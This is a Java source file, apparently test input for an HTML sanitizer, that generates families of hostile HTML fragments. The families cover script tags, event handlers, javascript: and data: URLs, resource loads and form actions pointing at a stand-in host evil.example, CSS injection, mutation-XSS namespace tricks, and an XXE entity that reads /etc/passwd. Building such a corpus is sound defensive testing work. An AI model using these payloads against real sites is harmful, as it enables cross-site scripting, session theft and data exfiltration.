package dev.guichet.ticket.hostile;

import java.util.ArrayList;
import java.util.List;

/// Kinds of attack, each as its own list of fragments. `EVIL` is code, `@@` where a scheme is written.
enum Family {
    SCRIPTS {
        @Override
        List<String> fragments() {
            return List.of(
                    "<script>EVIL</script>",
                    "<script/x>EVIL</script>",
                    "<script src=https://evil.example/x></script>",
                    "<svg><script>EVIL</script></svg>",
                    "<svg><script href=https://evil.example/x /></svg>",
                    "<math><mi><script>EVIL</script></mi></math>",
                    "<scr<script>ipt>EVIL</scr</script>ipt>",
                    "<script type=module>import 'https://evil.example/x'</script>");
        }
    },
    HANDLERS {
        @Override
        List<String> fragments() {
            List<String> all = new ArrayList<>();
            for (String element :
                    List.of("img src=x", "svg", "a href=https://ok.example", "details open", "b tabindex=1")) {
                for (String handler : List.of("onerror", "onload", "onfocus", "ontoggle", "onpointerrawupdate")) {
                    String name = element.split(" ")[0];
                    all.add("<" + element + " " + handler + "=EVIL>t</" + name + ">");
                    all.add("<" + element.replace(' ', '/') + "/" + handler + "='EVIL'>t</" + name + ">");
                }
            }
            return all;
        }
    },
    SCHEMES {
        @Override
        List<String> fragments() {
            List<String> all = new ArrayList<>();
            for (String scheme : List.of(
                    "javascript", "vbscript", "data", "file", "blob", "view-source", "feed", "jar", "livescript")) {
                String address = scheme + "@@" + (scheme.equals("data") ? "text/html,EVIL" : "EVIL");
                all.add("<a href=\"" + address + "\">t</a>");
                all.add("<q cite=\"" + address + "\">t</q>");
                all.add("<blockquote cite='" + address + "'>t</blockquote>");
                all.add("<svg><a xlink:href=\"" + address + "\"><text>t</text></a></svg>");
                all.add("<math href=\"" + address + "\"><mi>t</mi></math>");
                all.add("<svg><animate attributeName=href values=\"" + address + "\" /></svg>");
                all.add("<iframe src=\"" + address + "\"></iframe>");
                all.add("<object data=\"" + address + "\"></object>");
            }
            return all;
        }
    },
    FETCHES {
        @Override
        List<String> fragments() {
            List<String> all = new ArrayList<>();
            for (String address :
                    List.of("https://evil.example/x", "//evil.example/x", "\\\\evil.example\\x", "/x", "x")) {
                all.add("<img src=\"" + address + "\">");
                all.add("<img srcset=\"" + address + " 2x\">");
                all.add("<image href=\"" + address + "\">");
                all.add("<svg><image xlink:href=\"" + address + "\" /><use href=\"" + address + "#a\" /></svg>");
                all.add("<svg><filter><feImage href=\"" + address + "\" /></filter></svg>");
                all.add("<link rel=stylesheet href=\"" + address + "\">");
                all.add("<meta http-equiv=refresh content=\"0;url=" + address + "\">");
                all.add("<base href=\"" + address + "\">");
                all.add("<video poster=\"" + address + "\"><source src=\"" + address + "\"><track src=\"" + address
                        + "\"></video>");
                all.add("<table background=\"" + address + "\"><td background=\"" + address + "\">t</td></table>");
                all.add("<a href=https://ok.example ping=\"" + address + "\">t</a>");
                all.add("<embed src=\"" + address + "\">");
                all.add("<input type=image src=\"" + address + "\">");
            }
            return all;
        }
    },
    STYLES {
        @Override
        List<String> fragments() {
            List<String> all = new ArrayList<>();
            for (String rule : List.of(
                    "background:url(https://evil.example/x)",
                    "background:u\\72l(https://evil.example/x)",
                    "width:expression(EVIL)",
                    "behavior:url(#x)",
                    "-moz-binding:url(//evil.example/x#y)",
                    "position:fixed;inset:0;z-index:9999",
                    "content:url(x)",
                    "list-style-image:image-set('x' 1x)")) {
                all.add("<p style=\"" + rule + "\">t</p>");
                all.add("<td style='" + rule + "'>t</td>");
                all.add("<style>* {" + rule + "}</style>");
                all.add("<svg><style>*{" + rule + "}</style></svg>");
            }
            all.add("<style>@import 'https://evil.example/x';</style>");
            all.add("<style>@font-face{font-family:a;src:url(https://evil.example/x)}</style>");
            return all;
        }
    },
    FORMS {
        @Override
        List<String> fragments() {
            return List.of(
                    "<form action=https://evil.example><input name=a><button>t</button></form>",
                    "<button formaction=https://evil.example>t</button>",
                    "<input autofocus type=password>",
                    "<textarea name=a>t</textarea>",
                    "<select><option>t</option></select>",
                    "<isindex action=https://evil.example prompt=t>",
                    "<fieldset><legend>t</legend><input></fieldset>",
                    "<form id=a></form><button form=a formaction=https://evil.example>t</button>",
                    "<dialog open>t</dialog>",
                    "<label for=a>t</label><output id=a>t</output>");
        }
    },
    MUTATIONS {
        /// What is text in one namespace is markup in another.
        @Override
        List<String> fragments() {
            List<String> all = new ArrayList<>();
            for (String root : List.of("svg", "math")) {
                for (String door :
                        List.of("foreignObject", "desc", "mtext", "mi", "annotation-xml", "mglyph", "title")) {
                    for (String raw : List.of("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed")) {
                        all.add("<" + root + "><" + door + "><" + raw + "><a id=\"</" + raw
                                + "><img src=x onerror=EVIL>\"></" + raw + "></" + door + "></" + root + ">");
                    }
                    all.add("<form><" + root + "><" + door + "></form><form><mglyph><style></" + root
                            + "><img src=x onerror=EVIL></style></mglyph></form>");
                    all.add("<" + root + "><" + door + "><table><mglyph><style><!--</style><img title=\"-->"
                            + "<img src=x onerror=EVIL>\"></table></" + door + "></" + root + ">");
                }
            }
            return all;
        }
    },
    OTHER_SYNTAX {
        @Override
        List<String> fragments() {
            return List.of(
                    "<!--[if gte IE 4]><script>EVIL</script><![endif]-->",
                    "<!--><script>EVIL</script>-->",
                    "<!--x--!><img src=x onerror=EVIL>",
                    "<![CDATA[<img src=x onerror=EVIL>]]>",
                    "<svg><![CDATA[><img src=x onerror=EVIL>]]></svg>",
                    "<?xml-stylesheet href=\"javascript:EVIL\"?>",
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
                    "</ x><img src=x onerror=EVIL>",
                    "<template><img src=x onerror=EVIL></template>",
                    "<div><template shadowrootmode=open><script>EVIL</script></template></div>",
                    "<frameset onload=EVIL><frame src=\"javascript:EVIL\"></frameset>",
                    "<marquee onstart=EVIL>t</marquee>",
                    "<portal src=https://evil.example></portal>",
                    "<a id=forms name=forms href=https://ok.example>t</a>",
                    "<x-widget is=x onclick=EVIL>t</x-widget>",
                    "<applet code=EVIL></applet><bgsound src=//evil.example/x>",
                    "<img alt=\"&lt;script&gt;EVIL&lt;/script&gt;\">",
                    "<p title=\"&quot;&gt;&lt;script&gt;EVIL&lt;/script&gt;\">t</p>");
        }
    };

    abstract List<String> fragments();
}
